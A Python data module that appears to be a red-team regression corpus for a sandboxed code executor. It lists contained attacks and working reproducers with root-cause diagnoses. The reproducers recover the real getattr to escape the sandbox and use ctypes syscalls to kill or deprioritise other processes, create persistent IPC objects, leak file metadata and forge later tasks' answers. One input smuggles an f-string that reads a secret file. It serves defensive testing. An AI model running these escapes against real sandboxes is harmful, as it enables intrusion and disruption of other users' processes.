"""Red-team corpus for the rewritten executor (issue 12), written from a reading of its code.

Plain data, like ``hostile_corpus.py``; ``test_redteam.py`` runs it. Markers filled in by the test:
{TMP} (a directory that must stay empty), {SECRET_FILE} (a file whose text must never appear in a
result), {PORT} (a listener nobody may connect to).

``ATTACKS`` and ``POISONS`` are what this red team tried and found contained; they stay in the suite
as regression tests. ``FAULTS`` are what got through: each entry is a minimal reproducer with its
class, severity and the diagnosis of the root cause in the code; their tests are marked
``xfail(strict=True)`` so that fixing the root cause turns them green. ``FALSE_POSITIVES`` are
harmless programs the executor refuses or answers differently from plain Python.

Severity, highest first: os (an effect outside the sandbox), leak, escape (Python-level: a handle on
the worker's own objects), poison (a later task computes something else), nondeterminism (accepted),
api (a method raises or hangs), false_positive.
"""
from __future__ import annotations

import textwrap


def _p(source: str) -> str:
    return textwrap.dedent(source).strip("\n") + "\n"


# -- building blocks of the reproducers ----------------------------------------------------------
# Reads any attribute of any object without a guard: MATCH_CLASS reads the names in a class's
# __match_args__ with PyObject_GetAttr, and a metaclass's __instancecheck__ lets any subject match.
GRAB_BY_MATCH = _p("""
    class Meta(type):
        def __instancecheck__(cls, obj):
            return True
    class C(metaclass=Meta):
        __match_args__ = ('x',)
    def grab(obj, name):
        C.__match_args__ = (name,)
        match obj:
            case C(x):
                return x
""")

# The real builtins.getattr, from the guards' own methodcaller: its __call__ is a frame of the guards
# module, whose builtins are the real ones, and a builtin method's __reduce__ looks getattr up in
# the calling frame's builtins.
REAL_GETATTR = _p("""
    import operator
    g = operator.methodcaller('__reduce__')([].append)[0]
""")

# From the real getattr to the worker: real builtins, real sys (no "import" audit event for a module
# already loaded), the worker's globals through an unaudited frame attribute, audit hook off.
OWN_THE_WORKER = REAL_GETATTR + _p("""
    def own():
        bm = g(len, '__self__')
        sys = g(bm, '__import__')('sys')
        W = g(sys._getframe(2), 'f_globals')
        g(W['G'].TASK, '__dict__')['untrusted'] = False
        return bm, sys, W
""")

# Python layers off (the test turns off screen, guards and audit): a program holding the real os
# and ctypes, as the OS layer must assume. x86_64 system call numbers.
LIBC = _p("""
    import ctypes, os, sys
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
""")


# -- contained: every layer on ---------------------------------------------------------------------
# (name, program, inputs, expect); expect as in hostile_corpus.py: "refused", "nondeterministic",
# "contained" (any status; only the absence of effects and leaks is checked).
ATTACKS: list[tuple[str, str, str, str]] = [
    # attribute reads by name, through every door that takes a name
    ("reduce_in_program_frame_gives_guarded_getattr",
     _p("""
        def f(a):
            g = [].append.__reduce__()[0]
            return g(len, '__se' + 'lf__')
     """), "0", "refused"),
    ("reduce_ex_getstate_protocol2_in_c",
     _p("""
        class O:
            pass
        def f(a):
            o = O()
            o.__getstate__ = [].append.__reduce__
            g = o.__reduce_ex__(2)[2][0]
            return g(len, '__se' + 'lf__')
     """), "0", "refused"),
    ("sorted_key_reduce_ex_stays_guarded",
     _p("""
        def f(a):
            keys = []
            def k(x, r=[].append.__reduce_ex__):
                keys.append(r(2))
                return 0
            sorted([1, 2], key=k)
            return keys[0][0](len, '__se' + 'lf__')
     """), "0", "refused"),
    ("methodcaller_getattribute_self",
     "import operator\ndef f(a):\n    return operator.methodcaller('__getattribute__', '__se' + 'lf__')(len)", "0", "refused"),
    ("attrgetter_self_name",
     "import operator\ndef f(a):\n    return operator.attrgetter('real.__se' + 'lf__')(len)", "0", "refused"),
    ("methodcaller_subclass_name_swap",
     _p("""
        import operator
        class M(operator.methodcaller):
            pass
        def f(a):
            m = M('upper')
            object.__setattr__(m, '_name', '__se' + 'lf__')
            return m(len)
     """), "0", "refused"),
    ("format_self_field", "def f(a):\n    return '{0.__self__}'.format(len)", "0", "refused"),
    ("format_nested_subclasses",
     "def f(a):\n    return '{0.__class__.__base__.__subclasses__}'.format(1)", "0", "refused"),
    ("format_map_dict_field", "def f(a):\n    return '{m.__self__}'.format_map({'m': len})", "0", "refused"),
    ("formatter_subclass_get_value",
     _p("""
        import string
        class F(string.Formatter):
            def get_value(self, key, args, kwargs):
                return len
        def f(a):
            return F().format('{x.__self__}', x=1)
     """), "0", "refused"),
    # (vars() of a library class is a checked copy: the descriptor behind __self__ is withheld.)
    ("vars_of_builtin_type", "def f(a):\n    return vars(type(len))['__self__'].__get__(len)", "0", "refused"),
    ("getattr_guard_defaults_then_self",
     "def f(a):\n    d = getattr.__defaults__\n    return getattr(len, '__se' + 'lf__', d)", "0", "refused"),
    ("super_self_attribute",
     # The program's own instance behind its own super(): harmless, so no longer refused.
     "class A:\n    def m(self):\n        return super().__self__\ndef f(a):\n    return A().m()", "0", "contained"),
    ("getattr_str_subclass_name",
     _p("""
        class N(str):
            def __eq__(self, o):
                return False
            def __hash__(self):
                return 1
        def f(a):
            return getattr(len, N('__self__'))
     """), "0", "refused"),
    ("caught_violation_still_counts",
     "def f(a):\n    try:\n        getattr(f, '__glo' + 'bals__')\n    except BaseException:\n        pass\n    return 1", "0",
     "refused"),
    # modules a view leaves out
    ("typing_sys_attribute", "import typing\ndef f(a):\n    return typing.sys.modules", "0", "refused"),
    ("dataclasses_sys_attribute", "import dataclasses\ndef f(a):\n    return dataclasses.sys.modules", "0", "refused"),
    ("collections_abc_sys", "from collections import abc\ndef f(a):\n    return abc.sys", "0", "refused"),
    ("import_undeclared_at_run_time", "import math\ndef f(a):\n    m = __import__\n    return a", "0", "refused"),
    ("star_import_private_submodule", "from re._parser import *\ndef f(a):\n    return a", "0", "refused"),
    # writes to objects the program did not make
    ("write_guard_class_setattr",
     "import operator\ndef f(a):\n    type(operator.attrgetter('x')).__call__ = lambda s, o: 1\n    return a", "0", "refused"),
    ("kwdefaults_attribute_rebind",
     "import heapq\ndef f(a):\n    heapq.merge.__kwdefaults__ = {'reverse': True, 'key': None}\n    return a", "0", "refused"),
    ("object_setattr_on_guard_function",
     "def f(a):\n    object.__setattr__(getattr, '__defaults__', (1,))\n    return a", "0", "refused"),
    ("float_setformat_gone", "def f(a):\n    float.__setformat__('double', 'unknown')\n    return a", "0", "refused"),
    ("enum_global_enum_into_builtins",
     _p("""
        import enum
        class E(enum.Enum):
            repr = 1
        E.__module__ = 'builtins'
        def f(a):
            enum.global_enum(E)
            return a
     """), "0", "contained"),
    # library code that evaluates
    ("typing_forward_ref_dunder_attr",
     "import typing\ndef f(a):\n    return typing.ForwardRef('len.__self__')._evaluate({}, {}, frozenset())", "0", "refused"),
    ("dataclass_field_type_string_eval",
     _p("""
        from dataclasses import dataclass, fields
        import typing
        @dataclass
        class D:
            x: "len.__self__"
        def f(a):
            return typing.get_type_hints(D)
     """), "0", "refused"),
    # after the window
    ("suspended_generator_in_kwdefaults",
     _p("""
        import heapq
        def gen():
            try:
                yield 1
            finally:
                print('LATE')
        def f(a):
            g = gen()
            next(g)
            heapq.merge.__kwdefaults__['g'] = g
            return a
     """), "0", "contained"),
    # determinism
    ("nondeterministic_object_hash_order",
     _p("""
        class A:
            def __init__(self, n):
                self.n = n
        def f(a):
            return [x.n for x in {A(i) for i in range(16)}]
     """), "0", "nondeterministic"),
    ("nondeterministic_str_hash_twelve",
     "def f(a):\n    return ''.join({'a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j', 'k', 'l'})", "0", "nondeterministic"),
    ("nondeterministic_array_address",
     "import array\ndef f(a):\n    return array.array('b', [1]).buffer_info()[0] % 10007", "0", "nondeterministic"),
    # inputs
    ("inputs_walrus", "def f(a):\n    return a", "(x := 1)", "refused"),
    ("inputs_generator", "def f(a):\n    return a", "(x for x in [1])", "refused"),
    ("inputs_fstring", "def f(a):\n    return a", "f'{open(\"{SECRET_FILE}\").read()}'", "refused"),
    ("inputs_set_comprehension", "def f(a):\n    return a", "{x for x in ()}", "refused"),
]

# (name, poison, check): contained state changes; the check prints what a fresh executor prints.
POISONS: list[tuple[str, str, str]] = [
    ("module_view_dict_item",
     "import math\ndef f(a):\n    math.__dict__['sqrt'] = abs\n    return a", "import math\ndef f(a):\n    return math.sqrt(16)"),
    ("operator_view_attrgetter_swap",
     "import operator\ndef f(a):\n    operator.__dict__['itemgetter'] = operator.attrgetter\n    return a",
     "import operator\ndef f(a):\n    return operator.itemgetter(1)([5, 6])"),
    ("function_default_list",
     "def f(a, acc=[]):\n    acc.append(a)\n    return a", "def f(a, acc=[]):\n    return len(acc)"),
    ("builtins_rebind_through_getattr_module",
     "import math\ndef f(a):\n    setattr(math, 'floor', math.ceil)\n    return a", "import math\ndef f(a):\n    return math.floor(1.5)"),
    ("int_subclass_registered_then_dropped",
     "class I(int):\n    pass\ndef f(a):\n    return I(3) + a", "def f(a):\n    return type(3).__name__"),
]


# -- faults -----------------------------------------------------------------------------------------
# Every entry: name, severity, kind (how test_redteam.py checks it), the reproducer, the diagnosis.
FAULTS: list[dict] = [
    # ---- os: effects outside the sandbox with the OS layer on (Python layers off: the program
    # ---- holds the real os and ctypes, as the issue requires the OS layer to assume) ----------
    dict(
        name="sysv_ipc_objects_created", severity="os", kind="os_sysv",
        program=LIBC + _p("""
            def f(key):
                return [libc.syscall(29, key, 4096, 0o1666),      # shmget(key, 4096, IPC_CREAT|0666)
                        libc.syscall(68, key + 1, 0o1666),        # msgget
                        libc.syscall(64, key + 2, 1, 0o1666)]     # semget
        """),
        diagnosis="_confine.py:_ALWAYS_DENIED lists no System V IPC call (shmget/shmat/shmctl, msgget/msgsnd/"
                  "msgrcv/msgctl, semget/semop/semctl) and Landlock does not cover IPC. A sandboxed process "
                  "creates segments, queues and semaphores that outlive it (visible in ipcs), can attach to "
                  "or delete existing ones of its uid, and can use them as a channel between tasks and "
                  "workers (state across one-shot children, counters that defeat the determinism check).",
    ),
    dict(
        name="fsetown_sigkill_same_uid_process", severity="os", kind="os_signal",
        program=LIBC + _p("""
            def f(pid):
                r, w = os.pipe()
                libc.fcntl(r, 8, pid)                   # F_SETOWN: SIGIO goes to pid
                libc.fcntl(r, 10, 9)                    # F_SETSIG: ... as SIGKILL
                libc.fcntl(r, 4, 0o20000 | 0o4000)      # O_ASYNC | O_NONBLOCK
                os.write(w, b'x')                       # the kernel signals the owner
                return 'sent'
        """),
        diagnosis="_confine.py:build_filter denies kill/tkill/tgkill/rt_sigqueueinfo/pidfd_send_signal but "
                  "not fcntl(F_SETOWN/F_SETOWN_EX/F_SETSIG) with O_ASYNC (nor ioctl FIOSETOWN/FIOASYNC), which "
                  "makes the kernel send any signal to any process the worker's uid may signal. With seccomp "
                  "alone (Landlock ABI < 6: every kernel before 6.12, so Ubuntu 22.04/24.04) a program kills "
                  "the other workers (all run as nobody when started as root) or, when the executor runs as "
                  "a normal user, the trainer itself. Landlock's signal scope (ABI >= 6) happens to stop it.",
    ),
    dict(
        name="scheduling_of_outside_process_changed", severity="os", kind="os_sched",
        program=LIBC + _p("""
            def f(pid):
                mask = ctypes.c_uint64(1)
                return (libc.syscall(203, pid, 8, ctypes.byref(mask)),        # sched_setaffinity(pid, cpu 0)
                        libc.syscall(251, 1, pid, (3 << 13) | 7))             # ioprio_set(PROCESS, pid, IDLE)
        """),
        diagnosis="_confine.py:_CHILD_DENIED denies setpriority and sched_setscheduler/setparam/setattr but not "
                  "sched_setaffinity or ioprio_set: with every layer on, a program pins any process of its "
                  "uid to one CPU and drops its I/O class to idle (the trainer, when the executor runs as a "
                  "normal user; every nobody process, as root).",
    ),
    dict(
        name="setsid_runner_outlives_close", severity="os", kind="os_orphan",
        program=_p("""
            def f(a):
                os, sys, time = __import__('os'), __import__('sys'), __import__('time')   # runner path
                W = sys._getframe(1).f_globals
                os.setsid()                               # out of the zygote's process group
                def block(fd, _sleep=time.sleep):
                    while True:
                        _sleep(3600)
                W['_read_frame'] = block                  # never sees EOF, never exits
                W['_survivors'] = lambda ours=(): None
                return os.getpid()
        """),
        diagnosis="pool.py:WorkerPool._kill ends a worker with killpg on the zygote's process group, and "
                  "_worker.py's zygote kills a runner only while it has a job past its deadline; setsid/"
                  "setpgid are not in _confine.py's filter and the runner has no RLIMIT_CPU. A runner that "
                  "leaves the group survives Executor.close() as an orphan (PPID 1) under the sandbox's uid, "
                  "free to spin or to use the gaps above for as long as the machine runs. Reached with all "
                  "layers on through any of the escapes below.",
    ),
    dict(
        name="mq_open_with_seccomp_alone", severity="os", kind="os_mqueue",
        program=LIBC + _p("""
            def f(name):
                return libc.syscall(240, name.encode(), 0o100 | 2, 0o666, None)   # mq_open(O_CREAT|O_RDWR)
        """),
        diagnosis="_confine.py:_ALWAYS_DENIED has no mq_open/mq_unlink/mq_timedsend: with seccomp alone (no "
                  "Landlock, which refuses it as a file-system access) a program creates a POSIX message "
                  "queue that outlives the worker.",
    ),
    # ---- leak ---------------------------------------------------------------------------------
    dict(
        name="path_stat_through_at_empty_path", severity="leak", kind="leak_stat",
        program=LIBC + _p("""
            def f(path):
                buf = ctypes.create_string_buffer(256)
                rc = libc.syscall(262, -100, path.encode(), buf, 0x1000)   # newfstatat(AT_FDCWD, path, AT_EMPTY_PATH)
                return rc, ctypes.c_long.from_buffer(buf, 48).value      # st_size
        """),
        diagnosis="_confine.py:build_filter allows newfstatat/statx whenever AT_EMPTY_PATH is set, meaning "
                  "'fstat of an open descriptor'; but the kernel ignores AT_EMPTY_PATH for a non-empty path "
                  "and stats the path. Landlock does not cover stat. With every layer on, a program learns "
                  "whether any path exists, its size, owner and times (the rule says path-based stat is "
                  "denied). The rule must also require an empty path, which a filter cannot read: deny "
                  "path-based stat outright and let fstat use fstat(2).",
    ),
    dict(
        name="getxattr_reads_file_attributes", severity="leak", kind="leak_xattr",
        program=LIBC + _p("""
            def f(path):
                buf = ctypes.create_string_buffer(256)
                n = libc.syscall(191, path.encode(), b'user.azr', buf, 256)   # getxattr
                return buf.raw[:max(n, 0)].decode()
        """),
        diagnosis="_confine.py:_ALWAYS_DENIED denies setxattr/removexattr but not getxattr/lgetxattr/"
                  "listxattr/llistxattr, and Landlock does not cover them: with every layer on, a program "
                  "reads extended attributes (user data, security labels) of any file its uid may read, "
                  "although open() of that same file is refused.",
    ),
    # ---- escape: with every layer on, program code holds the worker's own objects ------------------
    dict(
        name="match_args_reads_any_attribute", severity="escape", kind="escape",
        program=GRAB_BY_MATCH + _p("""
            def f(a):
                bm = grab(len, '__self__')
                return grab(bm, '__import__')('sys').__name__
        """),
        diagnosis="screen.py:_SandboxPolicy.visit_MatchClass checks only keyword sub-patterns; a positional "
                  "sub-pattern reads the names in the class's __match_args__, which are data chosen at run "
                  "time, with PyObject_GetAttr in MATCH_CLASS: no _getattr_ rewrite, no guard. __self__ and "
                  "most REFUSED_ATTRIBUTES raise no audit event in CPython, so nothing stops it. From "
                  "len.__self__ (the real builtins) everything follows: the real __import__ returns any "
                  "loaded module (sys, os, ctypes, signal) without an 'import' audit event.",
    ),
    dict(
        name="guards_methodcaller_hands_out_real_getattr", severity="escape", kind="escape",
        program=REAL_GETATTR + _p("""
            def f(a):
                return g(g(len, '__self__'), '__import__')('os').__name__
        """),
        diagnosis="_guards.py:methodcaller.__call__ (and every other Python frame of the guards module, of "
                  "the standard library, of copyreg) runs with the REAL builtins; C methods such as "
                  "builtin_function_or_method.__reduce__ and method.__reduce__ look 'getattr' up in the "
                  "calling frame's builtins (_PyEval_GetBuiltin). So methodcaller('__reduce__')([].append) "
                  "returns (builtins.getattr, ...): the unguarded getattr, in the runner path.",
    ),
    dict(
        name="copyreg_getstate_reduce_real_getattr", severity="escape", kind="escape",
        program=_p("""
            class O:
                pass
            def f(a):
                o = O()
                o.__getstate__ = [].append.__reduce__      # called by copyreg._reduce_ex's frame
                g = o.__reduce_ex__(1)[2][0]
                return g(len, '__self__').__name__
        """),
        diagnosis="Same root as guards_methodcaller_hands_out_real_getattr, with no import at all: "
                  "object.__reduce_ex__(1) calls copyreg._reduce_ex (a frame with the real builtins), which "
                  "calls the instance's __getstate__; a builtin method there returns the real getattr.",
    ),
    dict(
        name="heapq_merge_next_reduce_real_getattr", severity="escape", kind="escape",
        program=_p("""
            import heapq
            class It:
                def __iter__(self):
                    return self
                def __next__(self):
                    raise StopIteration
            def f(a):
                it = It()
                it.__next__ = [].append.__reduce__       # merge's frame calls it.__next__ and yields it
                g = next(heapq.merge(it))[0]
                return g(len, '__self__').__name__
        """),
        diagnosis="Same root: heapq.merge is pure Python in a 'stateless' module; it calls a program-chosen "
                  "bound builtin from its own frame and yields the result.",
    ),
    dict(
        name="copy_reconstruct_reduce_real_getattr", severity="escape", kind="escape",
        program=_p("""
            import copy
            class R:
                def __reduce_ex__(self, p):
                    return ([].append.__reduce__, ())
            def f(a):
                g = copy.copy(R())[0]
                return g(len, '__self__').__name__
        """),
        diagnosis="Same root, one-shot path: copy._reconstruct calls the reduce callable from copy's frame.",
    ),
    dict(
        name="singledispatch_reduce_real_getattr", severity="escape", kind="escape",
        program=_p("""
            import functools
            def f(a):
                g = functools.singledispatch([].append.__reduce_ex__)(2)[0]
                return g(len, '__self__').__name__
        """),
        diagnosis="Same root, one-shot path: functools.singledispatch's wrapper calls the registered "
                  "builtin from functools' frame.",
    ),
    dict(
        name="typing_get_type_hints_empty_globalns", severity="escape", kind="escape",
        program=_p("""
            import typing
            def g(x: 'getattr'):
                pass
            def f(a):
                rg = typing.get_type_hints(g, {})['x']
                return rg(rg(len, '__self__'), '__import__')('os').__name__
        """),
        diagnosis="_guards.py:_checked_get_type_hints replaces globalns only when it is None; an explicit {} "
                  "is passed on, and eval() with a globals dict lacking __builtins__ inherits the builtins "
                  "of the calling frame: typing's, the real ones. The audit hook's 'exec' check "
                  "(generated_code_problem) only refuses names in REFUSED_NAMES/ATTRIBUTES, and getattr, "
                  "setattr, vars are not among them.",
    ),
    dict(
        name="typing_forward_ref_evaluate", severity="escape", kind="escape",
        program=_p("""
            import typing
            def f(a):
                rg = typing.ForwardRef('getattr')._evaluate({}, {}, frozenset())
                return rg(len, '__self__').__name__
        """),
        diagnosis="Same as typing_get_type_hints_empty_globalns through the public class's private "
                  "method (private *attributes* of allowed classes are reachable by design).",
    ),
    dict(
        name="worker_globals_and_audit_switch", severity="escape", kind="escape",
        program=OWN_THE_WORKER + _p("""
            def f(a):
                bm, sys, W = own()
                return sorted(k for k in W if k.isupper())[:5], W['G'].TASK.untrusted
        """),
        diagnosis="Amplifier of every escape above: _guards.py:_audit consults TASK.untrusted, a plain "
                  "attribute of an object the program can reach; sys._getframe is a 'benign' event and "
                  "CPython audits neither frame.f_back nor frame.f_globals (the _FRAME_ATTRIBUTES entries "
                  "for them are dead code), so the worker's globals, the guards module and the audit switch "
                  "are one step away. Fix by keeping the real builtins away from the program (e.g. "
                  "replace getattr in the real builtins module for the task's duration) and by not relying "
                  "on state a program can write.",
    ),
    # ---- poison: a later task computes something else ---------------------------------------------
    dict(
        name="heapq_merge_kwdefaults", severity="poison", kind="poison",
        poison="import heapq\ndef f(a):\n    heapq.merge.__kwdefaults__['reverse'] = True\n    return a",
        check="import heapq\ndef f(a):\n    return list(heapq.merge([1, 3], [2, 4]))",
        diagnosis="The write guard (_guards.py:write_guard) covers attribute stores only; a frozen "
                  "standard-library function's __kwdefaults__ dict is handed out by a plain attribute load "
                  "and mutated by item. heapq is 'stateless' (policy.STATELESS_MODULES), so it runs in the "
                  "persistent runner, whose after-task check (_worker.py:_survivors) looks for surviving "
                  "program objects, not for changed state: honest heapq.merge calls come out reversed.",
    ),
    dict(
        name="frozen_function_annotations_channel", severity="poison", kind="poison",
        poison="def f(a):\n    getattr.__annotations__['flag'] = 'set by an earlier task'\n    return a",
        check="def f(a):\n    return getattr.__annotations__.get('flag')",
        diagnosis="Reading __annotations__ of a frozen function (here the guard that stands for getattr; "
                  "also heapq.merge, the guard classes' methods, and a frozen heap class's __annotations__, "
                  "which CPython creates on first read) creates and stores a dict that persists in the "
                  "runner. Nothing in plain data stored there is a 'survivor' (_worker.py:_survivors only "
                  "flags functions, generators, frames ... and instances of program classes).",
    ),
    dict(
        name="finalizer_runs_in_later_task", severity="poison", kind="poison",
        poison=_p("""
            class D:
                def __init__(self, s=setattr):
                    s(self, 'me', self)
                def __del__(self, p=print, t=type):
                    p('LEAK')
                    t(self)()
            def f(a):
                kw = getattr.__annotations__
                if 'pad' in kw:
                    del kw['pad']      # frees 2001 objects that were alive before this task
                    D()                # ... and leaves a self-resurrecting cycle behind
                    return 'armed'
                kw['pad'] = [[] for _ in range(2000)]
                return 'stashed'
        """),
        check="def f(a):\n    print('clean')\n    return len([(i,) for i in range(1000)])",
        diagnosis="_worker.py:_run_job runs the survivor check only when len(gc.get_objects()) grew during "
                  "the task ('nothing it can free was alive before'); a program frees objects it stashed in "
                  "a persistent frozen container in an earlier task (frozen_function_annotations_channel), "
                  "so the count does not grow, gc.collect and _survivors are skipped, and its cycle's "
                  "finalizer runs at the next automatic collection, inside a later honest task: 'LEAK' is "
                  "printed into that task's stdout (it could as well change its output).",
    ),
    dict(
        name="recursion_depth_after_runner_replacement", severity="poison", kind="poison",
        poison="def f(a):\n    return hasattr(f, '__glo' + 'bals__')",
        check=_p("""
            def f(a):
                def r(n):
                    try:
                        return r(n + 1)
                    except RecursionError:
                        return n
                return r(0)
        """),
        diagnosis="_worker.py:Zygote forks runners from different call depths (serve -> _fork_runner at "
                  "start, serve -> _on_readable -> _runner_died -> _fork_runner after a retirement, "
                  "serve -> _feed_runner -> _fork_runner ...) and the child inherits the stack, so the "
                  "recursion depth left to a program depends on what ran before: any refused program shifts "
                  "it by two frames for every later task in that worker. An honest program recursing ~990 "
                  "deep succeeds in a fresh executor and fails after; the depth probe is judged "
                  "nondeterministic when the two workers' runners have different histories.",
    ),
    dict(
        name="escaped_program_rewrites_runner_answers", severity="poison", kind="poison",
        poison=OWN_THE_WORKER + _p("""
            def f(a):
                bm, sys, W = own()
                W['_render'] = lambda value: "'forged'"
                W['_survivors'] = lambda ours=(): None
                return a
        """),
        check="def f(a):\n    return a + 1",
        diagnosis="Consequence of the escapes: the runner's globals (_render, _survivors, _answer_json ...) "
                  "are writable by program code, so one program forges the answers of every later job in "
                  "its runner (validate, check_answers included). Fix the escapes; also keep the runner's "
                  "machinery out of reach (e.g. a fresh fork per task or a closure-held state).",
    ),
    dict(
        name="escaped_program_swaps_real_builtins", severity="poison", kind="poison",
        poison=REAL_GETATTR + _p("""
            def f(a):
                g(g(len, '__self__'), '__dict__')['repr'] = ascii
                return a
        """),
        check="def f(a):\n    return 'caf\\u00e9'",
        diagnosis="Consequence of the escapes: the worker renders outputs with the real builtins' repr; "
                  "swapping one frozen builtin for another leaves no survivor for _worker.py:_survivors to "
                  "see, so every later output in that runner is printed by ascii().",
    ),
    # ---- accepted nondeterminism ----------------------------------------------------------------------
    dict(
        name="counter_in_frozen_annotations_passes_validation", severity="nondeterminism",
        kind="nondet_later_runs",
        program=_p("""
            def f(a):
                box = getattr.__annotations__.setdefault('azr_calls', [0])
                box[0] += 1
                return box[0] > 3
        """),
        diagnosis="validate's second-call check catches state kept in the program's namespace, not state "
                  "kept in the runner (frozen_function_annotations_channel, heapq_merge_kwdefaults): the "
                  "three validation calls agree, later runs of the same program differ.",
    ),
    dict(
        name="equal_values_different_text_accepted", severity="nondeterminism", kind="nondet_text",
        programs=[_p(f"""
            def f(a):
                s = {{'p{k}', 'q{k}'}}
                return [1] if next(iter(s)) == 'p{k}' else [True]
        """) for k in range(20)],
        diagnosis="executor.py:_same_values accepts two runs whose texts differ when their literal values "
                  "are == and the top-level types match; but 1 == 1.0 == True and 0.0 == -0.0, so '[1]' and "
                  "'[True]' (or '0.0' and '-0.0', '{1: x}' and '{1.0: x}') pass as one output although plain "
                  "Python prints them differently under the two hash seeds. Compare types all the way down "
                  "(and floats by repr).",
    ),
    dict(
        name="two_element_set_order_half_accepted", severity="nondeterminism", kind="nondet_validate",
        programs=[f"def f(a):\n    return list({{'x{k}', 'y{k}'}})\n" for k in range(20)],
        diagnosis="With J = 2 runs under two random seeds, a program that lists a set of n strings is caught "
                  "only when the two orders differ: half the time for n = 2, 5/6 for n = 3 "
                  "(executor.py:validate_batch / determinism_runs). Measured here: about 10 of 20 two-string "
                  "programs accepted. Needs more seeds for programs whose output may depend on set order "
                  "(e.g. a third run when the program iterates a set or dict of str), or a structural check.",
    ),
    # ---- api: a method raises or hangs ----------------------------------------------------------------
    dict(
        name="hostile_worker_deep_json_raises_in_parent", severity="api", kind="api_deep_json",
        program=_p("""
            def f(depth):
                os, sys = __import__('os'), __import__('sys')                    # runner path
                L, W = sys._getframe(3).f_locals, sys._getframe(3).f_globals     # runner_main
                deep = '[' * depth + ']' * depth
                W['_write_all'](L['resp_fd'], W['_frame'](('[[%d,"ok",%s,null,"",false]]' % (L['job_id'], deep)).encode()))
                os._exit(0)
        """),
        diagnosis="pool.py:WorkerPool._accept catches only ValueError/UnicodeDecodeError from json.loads; a "
                  "nested answer (any depth the zygote, with its short stack, still parses) raises "
                  "RecursionError in the parent, whose stack is deeper (a trainer, pytest), and run() "
                  "raises. The zygote (_worker.py:Zygote._accept_answers) passes the payload on unparsed "
                  "beyond id and status, and itself dies of a deeper one. Reached with all layers on "
                  "through the escapes.",
    ),
    dict(
        name="lingering_one_shot_child_stalls_worker", severity="api", kind="api_stall",
        program=_p("""
            import os, re, signal, sys, time
            def f(a):
                L, W = sys._getframe(3).f_locals, sys._getframe(3).f_globals     # oneshot_main
                signal.setitimer(signal.ITIMER_REAL, 0)
                W['_write_all'](L['result_fd'], W['_frame'](('[[%d,"ok",["1"],null,"",false]]' % L['job_id']).encode()))
                os.close(L['result_fd'])
                time.sleep(60)
        """),
        diagnosis="_worker.py:Zygote._child_done reaps with a blocking os.waitpid and kills the child only "
                  "when it still owes an answer: a child that answers, closes its pipe and sleeps blocks the "
                  "zygote; every later job of that worker waits for the parent's backstop "
                  "(timeout + 2 * grace + 5 s) and a worker restart. With setsid (not denied) the child also "
                  "outlives the restart.",
    ),
    dict(
        name="str_subclass_with_raising_hash", severity="api", kind="api_call",
        diagnosis="screen.py:_memo and CompileCache._lookup key dicts by the caller's object "
                  "(isinstance(source, str) admits subclasses); a __hash__ or __eq__ that raises propagates "
                  "out of run/validate/check_*. Normalise with str.__str__ / type(x) is str first.",
    ),
    dict(
        name="str_subclass_poisons_process_wide_memo", severity="api", kind="api_subprocess",
        diagnosis="Same root as str_subclass_with_raising_hash, worse: screen.py's process-wide memos "
                  "(_LITERAL_ARGUMENTS, _ARGUMENT_TREES, _COMPILED) keep the subclass instance as a key, so "
                  "after one call with a lying str every later call with the equal plain text ('0') in ANY "
                  "executor of the process raises from its __eq__.",
    ),
    dict(
        name="infinite_timeout_accepted_then_raises", severity="api", kind="api_call",
        diagnosis="executor.py:Executor.__init__ accepts timeout=float('inf') (or 1e12) since only "
                  "'> 0' is checked; the first run raises OverflowError from select/setitimer in pool.py. "
                  "Validate a finite upper bound.",
    ),
]

# Harmless programs refused, or answered differently from plain Python. The first entry must be
# the first job of a fresh runner (the test gives it one).
FALSE_POSITIVES: list[tuple[str, str, str, str]] = [
    ("instances_with_attributes_first_job",
     _p("""
        class P:
            def __init__(self, v):
                self.v = v
        def f(n):
            return sum(p.v for p in [P(i) for i in range(n)])
     """), "2000",
     "_guards.py:freeze records the *ids* of objects alive at freeze; objects that die afterwards "
     "(_lock_down's locals: the Seccomp filter instance, lists ...) leave their ids in FROZEN, and pymalloc "
     "hands the same address to a program object, which is then 'not program-owned': write_guard refuses "
     "`self.v = v` ('writing attributes of P objects that the program did not create'). 700 to 2000 "
     "instances as the first job of a fresh runner are refused in about 45% of runners (measured: 18 of "
     "36; it depends on the heap layout, which the hash seed changes), i.e. after every start or "
     "retirement. The same confusion hides such an object from _worker.py:_survivors. Keep references to "
     "the frozen objects (not ids), e.g. pin the gc.get_objects() list, or compare identities."),
    ("unawaited_coroutine",
     "async def fetch(x):\n    return x * 2\ndef f(a):\n    c = fetch(a)\n    return type(c).__name__\n", "3",
     "An unawaited coroutine's RuntimeWarning makes CPython import warnings/tracemalloc through the task's "
     "__import__ (guarded_import: 'not declared') and the audit hook ('import tracemalloc'): the program is "
     "refused for CPython's own housekeeping."),
    ("open_as_local_name",
     _p("""
        def f(s):
            open, close = '([{', ')]}'
            stack = []
            for ch in s:
                if ch in open:
                    stack.append(ch)
                elif ch in close:
                    if not stack or open.index(stack.pop()) != close.index(ch):
                        return False
            return not stack
     """), "'([]{})'",
     "policy.REFUSED_NAMES refuses eval/exec/compile/open/globals/locals in every role (store, argument, "
     "def name, attribute-free local); binding one's own `open` shadows nothing the sandbox provides "
     "(they are absent from the task's builtins). Refuse loads of the builtin only."),
    ("eval_as_function_name",
     _p("""
        def eval(tokens):
            st = []
            for t in tokens:
                if t == '+':
                    b, a = st.pop(), st.pop()
                    st.append(a + b)
                else:
                    st.append(int(t))
            return st[0]
        def f(s):
            return eval(s.split())
     """), "'1 2 + 3 +'", "Same as open_as_local_name."),
    ("compile_as_method_name",
     "class Rx:\n    def compile(self, p):\n        return p.upper()\ndef f(s):\n    return Rx().compile(s)\n", "'ab'",
     "Same as open_as_local_name: even a method named compile is refused."),
    ("locals_in_format_call",
     "def f(a):\n    b = a * 2\n    return '{a}-{b}'.format(**locals())\n", "3",
     "Same as open_as_local_name: locals() inside a function returns the program's own variables; "
     "refusing it (policy.REFUSED_NAMES, ABSENT_BUILTINS) refuses a common formatting idiom."),
    ("bound_method_self_of_own_object",
     "class A:\n    def m(self):\n        return 1\ndef f(a):\n    o = A()\n    return o.m.__self__ is o\n", "0",
     "policy.REFUSED_ATTRIBUTES refuses __self__ on every object; only a builtin function's __self__ (a "
     "module) leads anywhere. The precise rule: refuse it where the value is a module or a non-program "
     "object."),
]
